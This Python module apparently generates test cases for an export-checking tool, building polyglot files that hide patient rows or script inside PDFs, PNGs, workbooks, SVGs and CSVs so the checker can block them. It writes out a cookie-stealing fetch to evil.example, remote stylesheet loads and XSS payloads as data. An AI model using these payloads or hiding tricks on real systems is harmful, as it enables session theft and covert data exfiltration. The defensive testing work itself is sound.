"""Files that are two things at once: one for the program that checks, another for the one that opens them."""

import base64
import gzip
import struct
import zlib
from collections.abc import Iterator

from hub_extensions.exports.checks.corpus.case import BLOCK, FLAG, PASS, Case, patients, rows_csv, table
from hub_extensions.exports.checks.corpus.drawings import pdf, png, svg
from hub_extensions.exports.checks.corpus.workbooks import workbook, zipped

_PAGE = b"<html><body><script>fetch('//evil.example/?'+document.cookie)</script></body></html>"


def cases() -> Iterator[Case]:
    """Yield every case of this kind."""
    yield from _archives()
    yield from _pictures()
    yield from _drawings()
    yield from _tables()


def _rows() -> bytes:
    return rows_csv(patients(40, "twofaced"), ["age", "sexe", "dep", "date_entree", "crp", "diag"])


def _remarked(remark: bytes) -> bytes:
    """A workbook whose archive carries a remark."""
    return workbook()[:-2] + struct.pack("<H", len(remark)) + remark


def _gap() -> bytes:
    """A workbook whose list of members begins later than its last member ends."""
    whole = workbook()
    start, end = whole.index(b"PK\x01\x02"), whole.rindex(b"PK\x05\x06")
    hidden = gzip.compress(_rows(), mtime=0)
    moved = struct.pack("<I", start + len(hidden))
    return whole[:start] + hidden + whole[start : end + 16] + moved + whole[end + 20 :]


def _archives() -> Iterator[Case]:
    rows = zipped({"p.csv": _rows()})
    yield Case("pdf_and_zip.pdf", BLOCK, "an archive after a document", pdf(b"") + rows)
    yield Case("zip_and_pdf.pdf", BLOCK, "an archive before a document", rows + pdf(b""))
    yield Case("png_and_zip.png", BLOCK, "an archive after a picture", png() + rows)
    yield Case("png_and_gzip.png", BLOCK, "a compressed file after a picture", png() + gzip.compress(_rows(), mtime=0))
    yield Case("xlsx_and_zip.xlsx", BLOCK, "a second archive after a workbook", workbook() + rows)
    yield Case("zip_and_xlsx.xlsx", BLOCK, "a second archive before a workbook", rows + workbook())
    yield Case("gap.xlsx", BLOCK, "rows between the members and their list", _gap())
    yield Case("remark.xlsx", BLOCK, "rows as the archive's remark", _remarked(_rows()[:900]))
    yield Case(
        "thumbnail.xlsx", BLOCK, "rows called a small picture", workbook(extra={"docProps/thumbnail.jpeg": _rows()})
    )
    yield Case("media_zip.xlsx", BLOCK, "an archive called a picture", workbook(extra={"xl/media/image1.png": rows}))


def _pictures() -> Iterator[Case]:
    whole = png()

    def with_chunk(name: bytes, body: bytes) -> bytes:
        sum_ = struct.pack(">I", zlib.crc32(name + body))
        return whole[:-12] + struct.pack(">I", len(body)) + name + body + sum_ + whole[-12:]

    yield Case("page_in_chunk.png", BLOCK, "a page in a text of a picture", with_chunk(b"tEXt", b"Comment\0" + _PAGE))
    yield Case("page_in_own_chunk.png", BLOCK, "a page in a chunk of its own", with_chunk(b"htMl", _PAGE))
    script = b"GIF89a/*" + b"\0" * 10 + b"*/=1;alert(1)//"
    yield Case("script.gif", BLOCK, "a GIF that is a script", script)
    yield Case("script_gif.png", BLOCK, "a GIF that is a script, called PNG", script)


def _drawings() -> Iterator[Case]:
    bars = '<rect x="1" y="1" width="20" height="90"/><rect x="30" y="1" width="20" height="60"/>'
    rows = _rows().decode()
    yield Case("cdata.svg", BLOCK, "rows in CDATA", svg(f"<desc><![CDATA[{rows}]]></desc>{bars}"))
    yield Case("cdata_script.svg", BLOCK, "code in CDATA", svg(f"<script><![CDATA[alert(1)]]></script>{bars}"))
    fetched = "<style><![CDATA[@import url(//evil.example/a.css);]]></style>"
    yield Case("cdata_style.svg", BLOCK, "a style from elsewhere in CDATA", svg(fetched + bars))
    sheet = '<?xml-stylesheet href="//evil.example/x.css"?>'
    yield Case("sheet.svg", BLOCK, "a style sheet from elsewhere", svg(bars, sheet))
    packed = base64.b64encode(_rows()).decode()
    yield Case("data_attribute.svg", BLOCK, "rows in an attribute", svg(f'<g data-rows="{packed}">{bars}</g>'))
    own = '<g xmlns:own="urn:own" own:note="a" data-x="1">'
    yield Case("programs_own.svg", FLAG, "a program's own short attributes, taken out", svg(f"{own}{bars}</g>"))


def _tables() -> Iterator[Case]:
    picture = "<img src=//evil.example/x.png onerror=alert(1)>"
    yield Case(
        "script.csv", BLOCK, "a table that is a page", table(["dep", "<script>alert(1)</script>"], [["75", 120]])
    )
    yield Case("picture.csv", BLOCK, "a picture from elsewhere", table(["dep", "n"], [["75", 120], [picture, 131]]))
    scripted = workbook(lambda book: book.active.append(["<script>alert(1)</script>", 131, 120]))
    yield Case("script_cell.xlsx", BLOCK, "a script in a cell", scripted)
    honest = [["< 65 ans", 120], ["65 ans et >", 131], ["IMC <25 & >18", 88], ["a<b>c", 99]]
    yield Case("less_than.csv", PASS, "signs that are no markup", table(["classe", "n"], honest))
